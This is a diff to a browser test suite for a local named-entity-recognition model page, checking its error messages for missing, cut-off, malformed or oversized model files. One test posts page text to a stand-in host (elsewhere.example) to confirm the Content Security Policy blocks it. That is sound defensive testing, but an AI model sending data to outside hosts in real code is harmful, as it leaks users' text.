@@ -165,27 +165,37 @@ interface Seen {
   readonly status: string;
 }
 
-async function seen(
+/** Opens the page, does what `does` does in it, and gives what that answers. */
+async function opened<Result>(
+  does: () => Promise<Result>,
   options: Pick<PageOptions, "query" | "size" | "scheme">,
-): Promise<Seen & { readonly bytes: number }> {
+  served: (path: string) => string | undefined = (path) => join(folder, path === "/" ? "index.html" : path),
+): Promise<{ readonly found: Result; readonly bytes: number }> {
   const script = `const { searchParams } = new URL(location.href);
-    fetch(searchParams.get("report"), { method: "POST", body: JSON.stringify(await (${visit.toString()})()) });`;
+    fetch(searchParams.get("report"), { method: "POST", body: JSON.stringify(await (${does.toString()})()) });`;
   const requests: string[] = [];
-  const report = (await openInChromium(chromium!, {
+  const found = (await openInChromium(chromium!, {
     ...options,
     answer(path) {
       if (path === "/axe.js") return readFileSync(fileURLToPath(import.meta.resolve("axe-core/axe.min.js")));
-      const file = join(folder, path === "/" ? "index.html" : path);
-      if (!existsSync(file) || !statSync(file).isFile()) return undefined;
+      if (path === "/script.js") return script;
+      const file = served(path);
+      if (file === undefined || !existsSync(file) || !statSync(file).isFile()) return undefined;
       if (!path.startsWith("/models/")) requests.push(file);
       const bytes = readFileSync(file);
-      const scripts = `<script src="/axe.js"></script><script type="module">${script}</script>`;
+      const scripts = `<script src="/axe.js"></script><script type="module" src="/script.js"></script>`;
       return path === "/" ? bytes.toString().replace("</body>", `${scripts}</body>`) : bytes;
     },
     timeout: 170_000,
-  })) as Seen;
-  const files = requests.map((path) => (path.endsWith("/") ? join(path, "index.html") : path));
-  return { ...report, bytes: files.reduce((sum, path) => sum + statSync(path).size, 0) };
+  })) as Result;
+  return { found, bytes: requests.reduce((sum, path) => sum + statSync(path).size, 0) };
+}
+
+async function seen(
+  options: Pick<PageOptions, "query" | "size" | "scheme">,
+): Promise<Seen & { readonly bytes: number }> {
+  const { found, bytes } = await opened(visit, options);
+  return { ...(found as Seen), bytes };
 }
 
 test.skipIf(chromium === undefined).each([
@@ -216,6 +226,135 @@ test.skipIf(chromium === undefined).each([
       `${name} (${page.width} px): typing to names ${page.times.map((ms) => ms.toFixed(0)).join(", ")} ms, longest task of the page ${page.longest} ms`,
     );
     expect(page.bytes).toBeLessThan(2_000_000);
+  },
+  180_000,
+);
+
+/** Drops what is no good on the page, tries to send its text away, and tells what the page says; run in the page. */
+async function misuse(): Promise<Record<string, string>> {
+  const at = (id: string) => document.getElementById(id) as HTMLTextAreaElement;
+  const said = async (done: (status: string) => boolean): Promise<string> => {
+    const end = performance.now() + 40_000;
+    for (;;) {
+      const status = at("status").textContent ?? "";
+      if (done(status)) return status;
+      if (performance.now() > end) return `still: ${status}`;
+      await new Promise((resolve) => setTimeout(resolve, 5));
+    }
+  };
+  const isError = () => at("status").classList.contains("error");
+  const drop = async (files: Readonly<Record<string, BlobPart>>): Promise<string> => {
+    at("status").textContent = "";
+    at("status").classList.remove("error");
+    const dropped = new DataTransfer();
+    for (const [name, content] of Object.entries(files)) dropped.items.add(new File([content], name));
+    const input = document.getElementById("folder") as HTMLInputElement;
+    input.files = dropped.files;
+    input.dispatchEvent(new Event("change"));
+    return said(isError);
+  };
+  const answers: Record<string, string> = {
+    "at first": await said((status) => !/^(Starting|Loading)/.test(status)),
+  };
+  const models = new URL("models/names/", document.baseURI);
+  const files: Record<string, ArrayBuffer> = {};
+  for (const name of [
+    "config.json",
+    "model.safetensors",
+    "vocab.json",
+    "merges.txt",
+    "tokenizer_config.json",
+    "entity_vocab.json",
+  ]) {
+    const response = await fetch(new URL(name, models));
+    if (response.ok) files[name] = await response.arrayBuffer();
+  }
+  for (const name of ["config.json", "model.safetensors", "vocab.json"]) {
+    const { [name]: _, ...rest } = files;
+    answers[`without ${name}`] = await drop(rest);
+  }
+  answers["weights cut off"] = await drop({
+    ...files,
+    "model.safetensors": files["model.safetensors"]!.slice(0, 5000),
+  });
+  answers["no JSON"] = await drop({ ...files, "config.json": "{ vocab_size" });
+  // The head of a file whose weights would be sixty gigabytes: refused before they are read.
+  const config = JSON.parse(new TextDecoder().decode(files["config.json"])) as Record<string, unknown>;
+  const large = {
+    ...config,
+    hidden_size: 8192,
+    num_attention_heads: 64,
+    num_hidden_layers: 24,
+    intermediate_size: 32768,
+    vocab_size: 50_000,
+  };
+  const [length, head] = [8192 * 1_835_008 * 4, new TextEncoder()];
+  const header = head.encode(
+    JSON.stringify({
+      "luke.embeddings.word_embeddings.weight": {
+        dtype: "F32",
+        shape: [1_835_008, 8192],
+        data_offsets: [0, length],
+      },
+    }),
+  );
+  const size = new DataView(new ArrayBuffer(8));
+  size.setBigUint64(0, BigInt(header.length), true);
+  answers["too big"] = await drop({
+    ...files,
+    "config.json": JSON.stringify(large),
+    "model.safetensors": new Uint8Array([...new Uint8Array(size.buffer), ...header]),
+  });
+  const violated = new Promise<string>((resolve) =>
+    document.addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) =>
+      resolve(`${effectiveDirective} ${blockedURI}`),
+    ),
+  );
+  await fetch("https://elsewhere.example/", { method: "POST", body: "text" }).catch(() => {});
+  answers["sent elsewhere"] = await violated;
+  answers["asked of"] = [
+    ...new Set(
+      performance.getEntriesByType("resource").map(({ name }) => new URL(name).origin === location.origin),
+    ),
+  ].join();
+  return answers;
+}
+
+test.skipIf(chromium === undefined)(
+  "what is no model, cut off, too big or missing is said so, by name and figure; nothing can be sent elsewhere",
+  async () => {
+    const { found } = await opened(misuse, { query: "&backend=wasm" });
+    expect(found).toEqual({
+      "at first": expect.stringMatching(/named-entity-recognition/),
+      "without config.json": expect.stringMatching(/no folder has a config\.json/),
+      "without model.safetensors": expect.stringMatching(/model\.safetensors/),
+      "without vocab.json": expect.stringMatching(/vocab\.json/),
+      "weights cut off": expect.stringMatching(/model\.safetensors/),
+      "no JSON": expect.stringMatching(/config\.json/),
+      "too big": expect.stringMatching(/\d GB/),
+      "sent elsewhere": expect.stringMatching(/^connect-src https:\/\/elsewhere\.example/),
+      "asked of": "true",
+    });
+  },
+  180_000,
+);
+
+test.skipIf(chromium === undefined)(
+  "a server that loses a model's file, and one without models, are told from each other",
+  async () => {
+    const status = async (): Promise<string> => {
+      const element = document.getElementById("status")!;
+      const end = performance.now() + 40_000;
+      while (/^(Starting|Loading)/.test(element.textContent ?? "") && performance.now() < end)
+        await new Promise((resolve) => setTimeout(resolve, 5));
+      return element.textContent ?? "";
+    };
+    const without = (missing: RegExp) =>
+      opened(status, { query: "&backend=wasm" }, (path) =>
+        missing.test(path) ? undefined : join(folder, path === "/" ? "index.html" : path),
+      );
+    expect((await without(/names\/model\.safetensors/)).found).toMatch(/model\.safetensors/);
+    expect((await without(/index\.json/)).found).toMatch(/^No model is here yet/);
   },
   180_000,
 );
